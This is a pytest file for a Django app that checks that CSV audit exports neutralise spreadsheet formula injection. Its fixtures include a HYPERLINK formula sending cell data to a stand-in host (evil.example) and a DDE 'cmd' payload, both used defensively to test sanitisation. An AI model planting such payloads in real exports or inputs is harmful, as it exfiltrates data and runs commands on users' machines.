"""CSV exports open in a spreadsheet as text: formula-like cells are neutralised (OWASP CSV injection)."""

import csv
import io

import pytest
from django.contrib.admin.helpers import ACTION_CHECKBOX_NAME
from django.test import Client
from django.urls import reverse

from roles.audit.csv_export import spreadsheet_safe
from tests.factories import ConnectionFactory

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize(
    ("typed", "exported"),
    [
        (FORMULA, "'" + FORMULA),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("alice", "alice"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
        (42, "42"),
    ],
)
def test_formula_cells_get_a_leading_quote_and_stay_readable(typed, exported):
    assert spreadsheet_safe(typed) == exported


@pytest.mark.django_db
def test_a_failed_sign_in_and_a_client_name_cannot_inject_a_formula_into_the_audit_export(admin_client):
    """The review: an anonymous failed sign-in named =HYPERLINK(…) was exported verbatim."""
    Client().post(reverse("login"), {"username": FORMULA, "password": "wrong"})
    ConnectionFactory(name="@SUM(A1:A9)")

    changelist = reverse("admin:roles_auditevent_changelist")
    response = admin_client.post(
        changelist, {"action": "export_csv", "select_across": "1", "index": "0", ACTION_CHECKBOX_NAME: ["0"]}
    )

    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    labels = {row["target_label"] for row in rows}
    assert "'" + FORMULA in labels and "'@SUM(A1:A9)" in labels
    cells = [cell for row in rows for cell in row.values()]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
